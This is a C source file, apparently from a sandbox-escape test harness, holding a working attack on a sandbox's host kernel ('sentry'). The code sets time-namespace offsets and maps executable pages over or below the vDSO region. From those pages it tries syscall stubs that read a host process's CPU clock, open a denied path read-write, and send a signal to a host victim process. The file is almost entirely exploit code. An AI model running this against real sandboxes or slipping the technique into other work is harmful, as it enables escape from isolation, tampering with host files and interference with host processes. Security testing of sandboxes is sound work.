// In a time namespace with offsets the sentry may answer calls by where they come from, as its own code there calls the
// host's vDSO. That place is the guest's memory: with code of its own there, a call asks the host for other things.
#include "hostile.h"

static clockid_t process_clock(pid_t pid, int kind) { return (clockid_t)(~(unsigned)pid << 3 | kind); }

static long at_place(const unsigned char *code, long number, long a, long b, long c) {
    long result;
    asm volatile("call *%[code]" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), [code] "r"(code) : "rcx", "r11", "memory");
    return result;
}
static void try_page(unsigned long at) {
    unsigned char *page = mmap((void *)at, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (page != (unsigned char *)at) return;
    struct timespec time;
    for (int offset = 0; offset < 4096 - 8; offset += 500) {
        memcpy(page + offset, "\x0f\x05\xc3", 3);
        if (at_place(page + offset, SYS_clock_gettime, process_clock(arena.victim, 2), (long)&time, 0) == 0)
            succeeded("read the host process's CPU clock from a page at %lx", at);
        at_place(page + offset, SYS_openat, AT_FDCWD, (long)denied_path, O_RDWR);
        at_place(page + offset, SYS_kill, arena.victim, SIGUSR1, 0);
    }
    round_done();
}
/// Where the vDSO is and was, by the process's own map.
static void inside(void) {
    static char maps[1 << 16];
    int fd = open("/proc/self/maps", O_RDONLY), size = 0;
    for (int n; (n = read(fd, maps + size, sizeof maps - 1 - size)) > 0;) size += n;
    close(fd);
    for (char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        unsigned long start, end;
        char flags[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, flags) != 3 || end - start > 65536 || start > 0x7fffffffffff) continue;
        char *newline = strchr(line, '\n'), *name = strstr(line, "[v");
        if (name && newline && name < newline && flags[2] == 'x')
            for (unsigned long at = start; at < end; at += 4096) try_page(at);
    }
    // Below the sentry's pages, even where the map does not tell.
    for (unsigned long at = 0x7dff00000000 - 0x40000; at < 0x7dff00000000; at += 4096) try_page(at);
}

static void attack(void) {
    without_vdso = true;
    if (arena.victim < 800) { say("note: the host's numbers are as small as the guest's"); pause_us(100000); return; }
    if (unshare(CLONE_NEWUSER | CLONE_NEWTIME) != 0) { say("note: no time namespace"); pause_us(100000); return; }
    int fd = open("/proc/self/timens_offsets", O_WRONLY);
    if (fd < 0 || write(fd, "monotonic 1000 0", 16) < 0) { say("note: no offsets"); return; }
    close(fd);
    pid_t pid = fork();
    if (pid == 0) inside(), RAW(SYS_exit_group, 0);
    double patience = now_() + 5;
    while (waitpid(pid, NULL, WNOHANG) == 0 && now_() < patience) pause_us(500);
    pause_us(20000);
}
